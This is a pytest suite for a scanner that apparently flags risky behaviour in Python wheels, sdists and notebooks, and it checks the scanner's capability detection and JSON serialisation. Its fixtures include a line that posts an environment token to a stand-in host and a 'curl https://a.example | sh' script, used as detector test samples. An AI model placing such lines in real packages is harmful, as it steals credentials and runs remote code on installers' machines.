"""Archives of every shape, from bytes to facts and through JSON and back."""

from __future__ import annotations

import contextlib
import io
import json
import os
import sys
import tarfile
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.code import METADATA, scan, write_archive, write_sdist, write_wheel
from veln_hook.source import vocabulary as v
from veln_hook.source.facts import (
    ArchiveFacts,
    Dependency,
    FileFacts,
    Placed,
    Problem,
    Tie,
    file_from_plain,
    from_plain,
    to_plain,
)
from veln_hook.source.scanning import scan_path

STEAL = "import os, requests\nrequests.post('https://a.example', data=os.environ['A_TOKEN'])\n"
WHEEL_FILES = {
    "acme/__init__.py": STEAL,
    "acme/data.txt": "x",
    "acme/lib.so": "\x7fELF connect\0",
    "acme.pth": "import acme\n",
    "acme/get.sh": "curl https://a.example | sh\n",
    "acme/core.pyc": "\0",
    "acme/bad.py": "import subprocess\nexec(\n",
    "acme-1.0.dist-info/METADATA": METADATA + "Requires-Dist: requests\n",
    "acme-1.0.dist-info/entry_points.txt": "[console_scripts]\nacme = acme:main\n",
}


def kinds(facts):
    return {(each.kind, each.reach) for each in facts.capabilities}


def test_a_wheel():
    facts = scan(WHEEL_FILES)
    assert facts.kind == "wheel"
    assert {
        (v.NET, "startup"),
        (v.CRED, "startup"),
        (v.PTH, "startup"),
        (v.SHELL, "call"),
        (v.BYTECODE, "import"),
    } <= kinds(facts)
    assert facts.natives == ("acme/lib.so",)
    assert facts.unparsed == ("acme/bad.py",)
    assert facts.scripts == ("acme",)
    assert facts.dependencies == (Dependency("requests", "requests", extra=False),)
    assert facts.ties
    assert not facts.problems
    assert (facts.files, facts.python_files) == (len(WHEEL_FILES) + 2, 2)
    assert facts.python_bytes == len(STEAL) + len(WHEEL_FILES["acme/bad.py"])


def test_an_sdist():
    facts = scan(
        {"acme-1.0/setup.py": STEAL, "acme-1.0/acme/__init__.py": STEAL, "acme-1.0/tests/test_x.py": STEAL}
    )
    assert facts.kind == "sdist"
    assert {each.path: each.reach for each in facts.capabilities} == {
        "acme-1.0/setup.py": "build",
        "acme-1.0/acme/__init__.py": "import",
        "acme-1.0/tests/test_x.py": "call",
    }


def test_a_directory(tmp_path):
    (tmp_path / "acme").mkdir()
    (tmp_path / "acme" / "__init__.py").write_text(STEAL)
    (tmp_path / "setup.py").write_text(STEAL)
    facts = scan_path(tmp_path)
    assert {each.path: each.reach for each in facts.capabilities} == {
        "setup.py": "build",
        "acme/__init__.py": "import",
    }


@pytest.mark.parametrize("name", ["acme-1.0.tar.gz", "acme.zip", "acme", "acme.whl.txt"])
def test_a_wheel_under_another_name(tmp_path, name):
    path = write_archive(str(tmp_path), WHEEL_FILES)
    other = str(tmp_path / name)
    os.rename(path, other)
    assert scan_path(other) == scan(WHEEL_FILES)


def test_an_sdist_under_a_wheels_name(tmp_path):
    path = write_sdist(str(tmp_path / "acme-1.0-py3-none-any.whl"), {"acme-1.0/setup.py": STEAL.encode()})
    assert (v.NET, "build") in kinds(scan_path(path))


@pytest.mark.parametrize("mode", ["w", "w:bz2", "w:xz"])
def test_sdists_packed_otherwise(tmp_path, mode):
    with tarfile.open(tmp_path / "x", mode) as archive:
        member = tarfile.TarInfo("acme-1.0/setup.py")
        member.size = len(STEAL)
        archive.addfile(member, io.BytesIO(STEAL.encode()))
    assert (v.NET, "build") in kinds(scan_path(tmp_path / "x"))


def test_an_sdist_in_a_zip(tmp_path):
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
        archive.writestr("acme-1.0/setup.py", STEAL)
    assert (v.NET, "build") in kinds(scan_path(tmp_path / "x.zip"))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"\x1f\x8b", b"no archive", b"PK\x05\x06" + b"\0" * 18])
def test_what_is_no_archive_is_a_problem_or_empty(tmp_path, data):
    (tmp_path / "x.whl").write_bytes(data)
    facts = scan_path(tmp_path / "x.whl")
    assert facts.capabilities == ()
    assert facts.problems or data.startswith(b"PK\x05\x06")


def test_what_is_not_there_is_a_problem(tmp_path):
    assert scan_path(tmp_path / "no").problems


@pytest.mark.parametrize(
    "name, read",
    [
        ("acme/x.py", True),
        ("acme/X.PY", True),
        ("acme/x.pyw", True),
        ("acme/x.txt", False),
        ("acme-1.0.data/scripts/run", True),
        ("acme/run", True),
        ("acme/data.bin", False),
    ],
)
def test_what_counts_as_python(name, read):
    facts = scan({name: f"#!/usr/bin/env python3\n{STEAL}"})
    assert bool(facts.capabilities) == read, facts


def test_a_notebook():
    cells = {
        "cells": [
            {"cell_type": "code", "source": ["!pip install x\n", STEAL]},
            {"cell_type": "markdown", "source": ["exec("]},
        ]
    }
    facts = scan({"acme/x.ipynb": json.dumps(cells)})
    assert {(v.NET, "call"), (v.CRED, "call")} <= kinds(facts)
    for broken in (
        "",
        "[]",
        "{}",
        '{"cells": 7}',
        '{"cells": [7]}',
        '{"cells": [{"cell_type": "code"}]}',
        "[" * 100_000,
    ):
        assert scan({"acme/x.ipynb": broken}).capabilities == ()


def test_bytecode_with_its_source():
    assert (
        scan({"acme/x.py": "", "acme/x.pyc": "\0", "acme/__pycache__/x.cpython-311.pyc": "\0"}).capabilities
        == ()
    )
    assert scan({"x.py": "", "__pycache__/x.cpython-311.pyc": "\0"}).capabilities == ()  # a package by itself
    assert kinds(scan({"acme/__pycache__/x.cpython-311.pyc": "\0"})) == {(v.BYTECODE, "import")}
    assert kinds(scan({"x.py": "", "acme/x.pyc": "\0"})) == {(v.BYTECODE, "import")}
    # A directory whose name only ends so is a package of its own.
    assert kinds(scan({"acme/x.py": "", "acme__pycache__/x.pyc": "\0"})) == {(v.BYTECODE, "import")}


def test_natives_are_told_by_their_first_bytes():
    facts = scan(
        {
            "acme/a.so": "\x7fELF",
            "acme/b.so": "text",
            "acme/c": "\x7fELF",
            "acme/d.pyd": "MZ",
            "acme/e.so.1.2": "\x7fELF",
        }
    )
    assert facts.natives == ("acme/a.so", "acme/c", "acme/d.pyd", "acme/e.so.1.2")


def test_what_is_known_is_not_read_again(tmp_path):
    files = {**WHEEL_FILES, "acme/copy.py": STEAL, "acme/light.py": "import acme\n"}
    path = write_archive(str(tmp_path), files)
    cache: dict[str, FileFacts] = {}
    asked: list[str] = []

    def known(digests):
        asked.extend(digests)
        return {digest: cache[digest] for digest in digests if digest in cache}

    first = scan_path(path, known=known, learned=cache.update)
    assert len(cache) == 2
    learned = dict(cache)
    again: dict[str, FileFacts] = {}
    assert scan_path(path, known=known, learned=again.update) == first == scan_path(path)
    assert again == {}
    through = {
        digest: file_from_plain(json.loads(json.dumps(list(facts)))) for digest, facts in learned.items()
    }
    assert through == learned
    assert scan_path(path, known=lambda _: through) == first


def test_what_is_known_counts_instead(tmp_path):
    path = write_archive(str(tmp_path), WHEEL_FILES)
    facts = scan_path(path, known=lambda digests: dict.fromkeys(digests, FileFacts(problem="of the cache")))
    assert set(facts.unparsed) == {"acme/__init__.py", "acme/bad.py"}


def test_what_can_not_be_parsed_is_not_learned(tmp_path):
    """Another Python may read it."""
    files = {"acme/__init__.py": b"import subprocess\n", "acme/bad.py": b"import subprocess\ndef (\n"}
    learned: dict[str, FileFacts] = {}
    facts = scan_path(write_wheel(str(tmp_path / "x.whl"), files), learned=learned.update)
    assert facts.unparsed == ("acme/bad.py",)
    assert facts.python == sys.version_info[:2]
    assert [each.problem for each in learned.values()] == [""]


def test_many_files_are_read_in_batches(tmp_path):
    files = {f"acme/m{n}.py": f"import subprocess\nx = {n}\n".encode() for n in range(1_200)}
    files["acme/light.py"] = b"x = 1\n"  # what is read of its imports is remembered, too
    batches = []
    scan_path(write_wheel(str(tmp_path / "x.whl"), files), learned=lambda new: batches.append(len(new)))
    assert sum(batches) == 1_201
    assert max(batches) <= 500


def test_facts_do_not_depend_on_the_order_of_members(tmp_path):
    files = {name: text.encode("latin-1") for name, text in WHEEL_FILES.items()}
    one = scan_path(write_wheel(str(tmp_path / "1.whl"), files))
    two = scan_path(write_wheel(str(tmp_path / "2.whl"), dict(reversed(files.items()))))
    assert set(one.capabilities) == set(two.capabilities)
    assert one._replace(capabilities=(), ties=()) == two._replace(capabilities=(), ties=())


# --- plain values --------------------------------------------------------------------------------------------

FULL = ArchiveFacts(
    kind="wheel",
    capabilities=(
        Placed(v.NET, "import", "a.py", 1, "d", "e", ("cred",), ("quiet",), "f"),
        Placed(v.CRED, "call", "b.py", 2),
    ),
    ties=(Tie(0, 1, "import", near=True),),
    problems=(Problem("s", "m", "n", fatal=True),),
    dependencies=(Dependency("a", "a>=1", extra=False),),
    scripts=("a",),
    natives=("b",),
    unparsed=("c",),
    python=(3, 9),
    files=3,
    python_files=2,
    python_bytes=1,
)


@pytest.mark.parametrize("facts", [ArchiveFacts(), FULL, scan(WHEEL_FILES)])
def test_facts_go_through_json(facts):
    assert from_plain(json.loads(json.dumps(to_plain(facts)))) == facts


def test_facts_of_the_old_shape_are_none():
    with pytest.raises(ValueError):
        from_plain(to_plain(FULL)[:-1])


PLACES = range(len(ArchiveFacts._fields))


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize(
    "value",
    [None, 7, "x", [7], [[]], [[7]], [None], {"a": 1}, [{"a": 1}], [["a", "b"]], True, 1e400, float("nan")],
)
def test_a_wrong_field_raises_value_error_or_is_taken(place, value):
    plain = json.loads(json.dumps(to_plain(FULL)))
    plain[place] = value
    try:
        facts = from_plain(plain)
    except ValueError:
        return
    assert from_plain(json.loads(json.dumps(to_plain(facts)))) == facts


@pytest.mark.parametrize(
    "tie", [[0, 2, "import", True], [-1, 0, "import", True], [0, 1, "import"], ["x", 1, "import", True]]
)
def test_ties_lead_somewhere(tie):
    plain = json.loads(json.dumps(to_plain(FULL)))
    plain[ArchiveFacts._fields.index("ties")] = [tie]
    with pytest.raises(ValueError):
        from_plain(plain)


def test_reaches_are_known_ones():
    plain = json.loads(json.dumps(to_plain(FULL)))
    plain[1][0][1] = "never"
    with pytest.raises(ValueError):
        from_plain(plain)
    plain = json.loads(json.dumps(to_plain(FULL)))
    plain[2][0][2] = "never"
    with pytest.raises(ValueError):
        from_plain(plain)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=11) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=20,
)


@settings(max_examples=300)
@given(JSON)
def test_any_plain_value_raises_value_error_or_is_taken(plain):
    for rebuild in (from_plain, file_from_plain):
        with contextlib.suppress(ValueError):
            rebuild(plain)


@settings(max_examples=200)
@given(st.lists(JSON, min_size=5, max_size=6), st.lists(JSON, min_size=11, max_size=11))
def test_any_plain_fields_raise_value_error_or_are_taken(file_fields, fields):
    for rebuild, plain in ((file_from_plain, file_fields), (from_plain, fields)):
        with contextlib.suppress(ValueError):
            rebuild(plain)
